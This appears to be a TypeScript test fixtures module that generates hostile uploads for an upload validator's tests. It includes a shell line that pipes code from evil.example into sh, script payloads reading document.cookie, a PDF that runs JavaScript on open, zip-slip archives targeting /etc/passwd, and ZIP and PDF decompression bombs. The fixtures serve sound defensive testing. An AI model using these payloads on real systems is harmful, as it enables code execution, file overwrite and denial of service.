import zlib from 'node:zlib';
import { readZip } from '../src/lib/zip';
import { buildZip, deflated, workbook, xlsxBomb, type RawEntry } from './zip-fixtures';

/**
 * Files that uploads must refuse or accept, made here byte by byte (ADR 0019): what each pretends to be and what it
 * is. Shared by the upload tests of files, pay slips and documents.
 */

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngChunk(type: string, data: Buffer) {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([len, body, crc]);
}

function ihdr(width: number, height: number, colourType: number) {
  const h = Buffer.alloc(13);
  h.writeUInt32BE(width, 0);
  h.writeUInt32BE(height, 4);
  h[8] = 8; // bit depth
  h[9] = colourType; // 2 RGB, 6 RGBA
  return h;
}

/** A 1×1 PNG (a real one: signature, IHDR, IDAT, IEND). */
export function png(): Buffer {
  const idat = zlib.deflateSync(Buffer.from([0, 0x1a, 0x41, 0x5b]));
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr(1, 1, 2)),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * A real PNG of `width` × `height` in one colour (RGB, or RGBA with `alpha`): small to send however large it is, since
 * its rows compress to almost nothing.
 */
export function pngOf(width: number, height: number, opts: { alpha?: number } = {}): Buffer {
  const channels = opts.alpha === undefined ? 3 : 4;
  const row = Buffer.alloc(1 + width * channels);
  for (let x = 0; x < width; x++) {
    row.set([0x1a, 0x41, 0x5b], 1 + x * channels);
    if (channels === 4) row[1 + x * channels + 3] = opts.alpha!;
  }
  const idat = zlib.deflateSync(Buffer.concat(Array.from({ length: height }, () => row)));
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr(width, height, channels === 4 ? 6 : 2)),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * The review's kind of logo (83 bytes here): a PNG signature, a well-formed RGBA IHDR, then an IDAT of zlib garbage. pdfkit's
 * PNG decoder threw on it inside a zlib callback, where nothing catches: the whole server went down (issue 30).
 */
export function hostilePng(): Buffer {
  const garbage = Buffer.from('789c' + 'ff'.repeat(24), 'hex');
  const out = Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr(64, 64, 6)),
    pngChunk('IDAT', garbage),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
  return out;
}

/**
 * A minimal PDF with one page per entry of `pages`, each showing its lines of text (a real text layer); `javascript`
 * makes the catalog run it when the file is opened (/OpenAction /JavaScript).
 */
export function pdf(
  pages: string[][],
  opts: { encrypt?: boolean; noText?: boolean; javascript?: string } = {},
): Buffer {
  const objects: string[] = [];
  const add = (body: string) => {
    objects.push(body);
    return objects.length;
  };
  const font = add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  const pageIds: number[] = [];
  const parent = objects.length + 1 + pages.length * 2;
  for (const lines of pages) {
    const text = opts.noText
      ? '0.5 g 50 50 200 200 re f'
      : `BT /F1 10 Tf 50 800 Td 12 TL ${lines.map((l) => `(${l.replace(/[()\\]/g, '\\$&')}) '`).join(' ')} ET`;
    const content = add(`<< /Length ${text.length} >>\nstream\n${text}\nendstream`);
    pageIds.push(
      add(
        `<< /Type /Page /Parent ${parent} 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${content} 0 R >>`,
      ),
    );
  }
  add(`<< /Type /Pages /Kids [${pageIds.map((p) => `${p} 0 R`).join(' ')}] /Count ${pageIds.length} >>`);
  const action = opts.javascript
    ? ` /OpenAction << /S /JavaScript /JS (${opts.javascript.replace(/[()\\]/g, '\\$&')}) >>`
    : '';
  const catalog = add(`<< /Type /Catalog /Pages ${parent} 0 R${action} >>`);
  const encrypt = opts.encrypt ? add('<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <00> /U <00> >>') : null;
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root ${catalog} 0 R${encrypt ? ` /Encrypt ${encrypt} 0 R /ID [<00><00>]` : ''} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** A Windows executable renamed .pdf (MZ header). */
export const exe = () => Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(200, 0x41)]);
export const html = () =>
  Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
export const svgWithScript = () =>
  Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>');
/** Bytes that start like a PDF only after some junk. */
export const notQuitePdf = () => Buffer.from('junk%PDF-1.4\n');

/** A Linux executable (ELF header), renamed .png or .pdf by the tests. */
export const elf = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200, 0)]);
/** A shell script: text, so a CSV reader sees a table without the expected columns. */
export const shellScript = () => Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\n');
/** A real PDF cut in half: the magic bytes, no cross-reference table, no %%EOF. */
export const truncatedPdf = () => {
  const whole = pdf([['CEDOLINO PAGA', 'ROSSI MARIO']]);
  return whole.subarray(0, Math.floor(whole.length / 2));
};
/** A PDF that runs JavaScript when opened. */
export const pdfWithJavaScript = () => pdf([['CIRCOLARE']], { javascript: 'app.alert(document.cookie)' });

/** `size` bytes that start as `head` (a real file's first bytes) and go on with filler: over a limit by its size only. */
export function padded(head: Buffer, size: number): Buffer {
  const out = Buffer.alloc(size, 0x20);
  head.copy(out, 0, 0, Math.min(head.length, size));
  return out;
}

/** The entries of a small real workbook, each deflated again honestly under the name `rename` gives it. */
async function renamedWorkbook(rename: (name: string) => string, extra: RawEntry[] = []): Promise<Buffer> {
  const base = await workbook(['Nome', 'Cognome', 'Email', 'Codice fiscale'], [['Mario', 'Rossi', 'x@y.it', '-']]);
  const entries = readZip(base, { maxTotalBytes: 10 * 1024 * 1024, maxEntries: 100 });
  return buildZip([...entries.map((e) => deflated(rename(e.name), e.data)), ...extra]);
}

/**
 * Archives that a spreadsheet upload (an XLSX is a ZIP) must refuse, each a few KB (ADR 0016: our own bounded reader,
 * 20 MiB inflated in all, 500 entries at most, no duplicate names). The bombs inflate to 32 MiB (over the 20 MiB bound)
 * from about 32 KB: a ratio of about 1000.
 */
export const hostileZips = {
  /** Honest headers: refused on the declared sizes, before inflating. */
  bomb: () => xlsxBomb(32 * 1024 * 1024),
  /** Headers that claim 4 KB: refused while inflating, at the bound. */
  lyingBomb: () => xlsxBomb(32 * 1024 * 1024, 4096),
  /** Zip slip: every part of the workbook under `../../`, and an /etc/passwd to overwrite. */
  traversal: () =>
    renamedWorkbook((n) => `../../${n}`, [deflated('../../../../../../etc/passwd', 'root::0:0::/root:/bin/sh\n')]),
  /** Absolute names, Unix and Windows. */
  absolute: () =>
    renamedWorkbook((n) => `/${n}`, [deflated('C:\\Windows\\System32\\drivers\\etc\\hosts', '127.0.0.1 x')]),
  /** A workbook inside a ZIP inside a ZIP: nothing is unpacked twice. */
  nested: async () => {
    const inner = buildZip([deflated('dipendenti.xlsx', await renamedWorkbook((n) => n))]);
    return buildZip([deflated('archivio.zip', inner)]);
  },
  /** One entry over the 500 allowed. */
  tooManyEntries: () => buildZip(Array.from({ length: 501 }, (_, i) => deflated(`xl/media/image${i}.png`, png()))),
  /** Two entries with one name (a later one would silently replace the sheet that was checked). */
  duplicateNames: () =>
    renamedWorkbook((n) => n, [deflated('xl/worksheets/sheet1.xml', '<worksheet><sheetData/></worksheet>')]),
};

/**
 * The review's hostile pay-slip import (issue 30): `pages` pages that all draw one Flate content stream which decodes
 * to `decodedMb` MB of harmless operators ("q Q", a thousand times smaller compressed), so that every page costs the
 * whole stream again. With 1.5 MB of file and 3 GB decoded, a reader without limits needs gigabytes and hours.
 */
export function pdfBomb(pages: number, decodedMb: number): Buffer {
  const unit = Buffer.alloc(1024 * 1024, 'q Q\n');
  const deflate = zlib.deflateSync(Buffer.concat(Array.from({ length: Math.min(decodedMb, 64) }, () => unit)), {
    level: 9,
  });
  // Past 64 MB the stream is made of the same compressed block repeated, each a full flush: zlib reads it as one stream.
  const body = decodedMb <= 64 ? deflate : repeatedDeflate(unit, decodedMb);
  const objects: Buffer[] = [];
  const add = (b: Buffer | string) => objects.push(typeof b === 'string' ? Buffer.from(b, 'latin1') : b);
  add('<< /Type /Catalog /Pages 2 0 R >>');
  const kids = Array.from({ length: pages }, (_, i) => `${i + 4} 0 R`).join(' ');
  add(`<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`);
  add(
    Buffer.concat([
      Buffer.from(`<< /Length ${body.length} /Filter /FlateDecode >>\nstream\n`),
      body,
      Buffer.from('\nendstream'),
    ]),
  );
  for (let i = 0; i < pages; i++) add('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>');
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    const chunk = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), o, Buffer.from('\nendobj\n')]);
    offsets.push(offset);
    offset += chunk.length;
    parts.push(chunk);
  });
  let xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) xref += `${String(o).padStart(10, '0')} 00000 n \n`;
  xref += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${offset}\n%%EOF\n`;
  parts.push(Buffer.from(xref));
  return Buffer.concat(parts);
}

/** A zlib stream of `mb` copies of `unit` (1 MB) without holding them: one raw block compressed once, repeated. */
function repeatedDeflate(unit: Buffer, mb: number): Buffer {
  const header = Buffer.from([0x78, 0xda]);
  const block = zlib.deflateRawSync(unit, { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  const last = zlib.deflateRawSync(Buffer.alloc(0), { finishFlush: zlib.constants.Z_FINISH });
  // The Adler-32 checksum is left wrong on purpose (zlib checks it only at the very end, and readers stop earlier).
  return Buffer.concat([header, ...Array.from({ length: mb }, () => block), last, Buffer.alloc(4)]);
}
